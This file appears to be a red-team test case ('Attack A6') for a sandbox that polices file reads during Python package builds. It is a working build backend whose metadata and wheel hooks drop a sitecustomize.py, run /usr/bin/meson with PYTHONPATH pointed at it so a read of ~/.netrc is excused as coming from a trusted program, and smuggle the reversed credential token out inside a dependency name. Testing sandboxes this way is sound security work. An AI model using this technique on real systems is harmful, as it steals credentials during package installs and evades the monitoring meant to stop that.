# Attack A6: ~/.netrc is left out of the kernel's pip-only map and the
# engine excuses a read of it by a process whose program is /usr/bin/meson
# (judged by the path run, inherited).  Run the real /usr/bin/meson with
# PYTHONPATH naming a directory with our sitecustomize.py: our code runs in
# "meson", reads the decoy ~/.netrc, and the token (reversed) leaves in a
# dependency name.
import os, subprocess, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-netrc-meson", "1.0"
D = "/tmp/rt1meson"

SITE = b'''
import os, sys
try:
    t = open(os.path.expanduser("~/.netrc")).read().split()[-1]
    sys.stdout.write("RT1NETRC=" + t[::-1] + "\\n"); sys.stdout.flush()
except Exception as e:
    sys.stdout.write("RT1NETRC=err" + type(e).__name__ + "\\n")
os._exit(0)
'''

def _steal():
    os.makedirs(D, exist_ok=True)
    with open(f"{D}/sitecustomize.py", "wb") as f:
        f.write(SITE)
    env = dict(os.environ, PYTHONPATH=D)
    out = subprocess.run(["/usr/bin/meson", "--version"], env=env, capture_output=True).stdout.decode()
    for l in out.splitlines():
        if l.startswith("RT1NETRC="):
            return l[9:]
    return "none"

_cache = []
def _reqs():
    if not _cache:
        _cache.append(_steal())
    return ["rt1n-" + _cache[0]]

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(md_dir, config_settings=None):
    return wheelkit.write_metadata(md_dir, NAME, VER, _reqs())

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {"rt1_nm.py": b""}, _reqs())
